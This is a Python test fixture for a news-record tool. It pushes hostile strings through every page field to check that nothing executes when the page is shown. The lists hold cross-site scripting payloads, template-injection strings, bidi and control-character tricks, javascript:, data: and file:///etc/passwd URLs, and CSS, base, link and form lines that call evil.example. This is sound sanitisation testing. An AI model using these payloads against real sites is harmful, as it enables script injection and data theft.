"""Texts that try to get out of the page they are shown on, put through every field that a page fills."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from memcon.model import (
    Actor,
    Article,
    Block,
    BlockKind,
    Clause,
    Conditional,
    Event,
    Evidence,
    Figure,
    Meeting,
    Mention,
    Page,
    Place,
    Reading,
    Span,
    Statement,
    Status,
    When,
    content_id,
)
from memcon.record import Record, ingest, open_record

# Each must do nothing. `boom` is what a script would call: the browser's test looks whether anybody did.
TEXTS = (
    "<script>boom()</script>",
    "</script><script>boom()</script>",
    "<img src=x onerror=boom()>",
    '" onmouseover="boom()" autofocus onfocus="boom()" x="',
    "' onclick='boom()' style='position:fixed;inset:0",
    "<svg onload=boom()><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=boom()></svg>#x'/></svg>",
    "</style><style>*{background:url(https://evil.example/a)}@import 'https://evil.example/b';",
    "</title><script>boom()</script>",
    "</details></li></ul></section></main><iframe src=javascript:boom()>",
    "<!--",
    "--><script>boom()</script><!--",
    "<![CDATA[<script>boom()</script>]]>",
    "]]><x/onload=boom()>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'boom'>]>&e;",
    "{{constructor.constructor('boom()')()}}{% raw %}${boom()}#{boom()}<%= boom() %>",
    "&lt;script&gt;boom()&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/c><meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><input name=q autofocus onfocus=boom()><button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boom()>",
    "<a href=javascript:boom()>a</a><a href='data:text/html,<script>boom()</script>'>b</a>",
    "\u202egnp.exe\u202c \u2066isolate \u2067",
    "zero\u200bwidth\ufeffjoin\u2060er \U000e0041\U000e0042",
    "nul\0 bell\x07 escape\x1b[31m delete\x7f next\x85 \ud800 \ufffe",
    "line\u2028separator\u2029paragraph\x0bvertical\x0cform",
    "á̶̢̧̨̡̛̫̬̭̮̯̰̱̲̳" * 3,
    "W" * 400,
)
ADDRESSES = (
    "javascript:boom()",
    "JaVaScRiPt:boom()//https://a.example/",
    "java\nscript:boom()",
    " javascript:boom()",
    "data:text/html,<script>boom()</script>",
    "vbscript:boom()",
    "file:///etc/passwd",
    "https://user:pass@evil.example/",
    "https://evil.example/\" onclick=\"boom()",
    "https://evil.example/'><script>boom()</script>",
    "//evil.example/x",
    "https:evil.example",
    "https://evil.example\\@good.example/",
    "http://[::1/",
    "https://a.example/\u202egnp.exe",
    "https://a.example/ok?q=1&b=<i>",
    "blob:https://a.example/1",
)  # fmt: skip


def readings() -> Iterator[tuple[Page, Reading]]:
    """One page a text, with it in the title, the author, the outlet, names, places, quotations and numbers."""
    for number, text in enumerate(TEXTS):
        url = ADDRESSES[number % len(ADDRESSES)]
        yield _page(text, url, number)
    for number, url in enumerate(ADDRESSES):
        yield _page(f"plain {number}", url, 100 + number)


def _page(text: str, url: str, number: int) -> tuple[Page, Reading]:
    told = text.encode("utf-8", "replace").decode()  # what a decoder leaves: no lone surrogates in a file
    parts = [
        told,
        " met ",
        f"Other {told}",
        " in ",
        f"Place {told}",
        ". “",
        told,
        "” said ",
        told,
        ". 20 ",
        told,
        ".",
    ]
    body = "".join(parts)
    at = [sum(map(len, parts[:i])) for i in range(len(parts) + 1)]
    spans = [Span(start, end) for start, end in pairwise(at)]
    whole = (0, len(body))
    when = When("2022-02-10", "2022-02-10", "2022-02-10", "day", "stated")
    one = Actor(f"a{number}one", told, "person", "", "", told, (Mention(spans[0], "name"),))
    two = Actor(f"a{number}two", f"Other {told}", "person", "", "", "", (Mention(spans[2], "name"),))
    place = Place(f"g{number}", f"Place {told}", "", 50.0 + number / 10, 30.0 + number / 10)

    def evidence(first: int, last: int) -> Evidence:
        return Evidence(spans[first].start, spans[last].end, whole, told)

    key = content_id("e", number)
    codes = {"plover": "CONSULT", "cameo": "040"}
    blame = {"plover": "ACCUSE", "cameo": "112"}
    met = Event(
        key, spans[1], (one.id,), (two.id,), codes, Status.ASSERTED, evidence(0, 4), when, place.id, spans[4]
    )
    accused = Event(
        content_id("x", number), spans[1], (one.id,), (two.id,), blame, Status.ASSERTED, evidence(0, 2), when
    )
    meeting = Meeting(
        content_id("m", key), (one.id, two.id), told, "held", evidence(0, 4), when, place.id, spans[4]
    )
    said = Statement(
        content_id("s", number),
        one.id,
        spans[8],
        (spans[6],),
        "direct",
        spans[7],
        two.id,
        told,
        evidence(6, 6),
    )
    condition = Conditional(
        content_id("c", number), one.id, Clause(spans[0]), Clause(spans[2], two.id), "threat", evidence(0, 2)
    )
    figure = Figure(content_id("f", number), 20, 20, None, False, told, told, told, evidence(9, 10), said.id)
    article = Article(
        content_id("a", number),
        body,
        (Block(Span(0, len(body)), BlockKind.PARAGRAPH),),
        "en",
        url,
        told,
        told,
        told,
        when,
    )
    found: dict[str, Any] = {
        "actors": (one, two), "places": (place,), "meetings": (meeting,), "statements": (said,),
        "events": (met, accused), "conditionals": (condition,), "figures": (figure,),
    }  # fmt: skip
    page = Page(f"{number} {body}".encode(), "text/plain", url, "utf-8", None, (("licence", told),))
    return page, Reading(article, **found)


def record_of_them(path: Path, monkeypatch: pytest.MonkeyPatch) -> Record:
    """A record of all of it; only the reading of a page is replaced."""
    made = list(readings())
    by_page = {ingest.page_key(page): reading for page, reading in made}
    monkeypatch.setattr(ingest, "_read", lambda page, options: by_page[ingest.page_key(page)])
    record = open_record(path, create=True)
    summary = record.add([page for page, _ in made])
    assert (summary.added, summary.failed) == (len(made), 0)
    return record
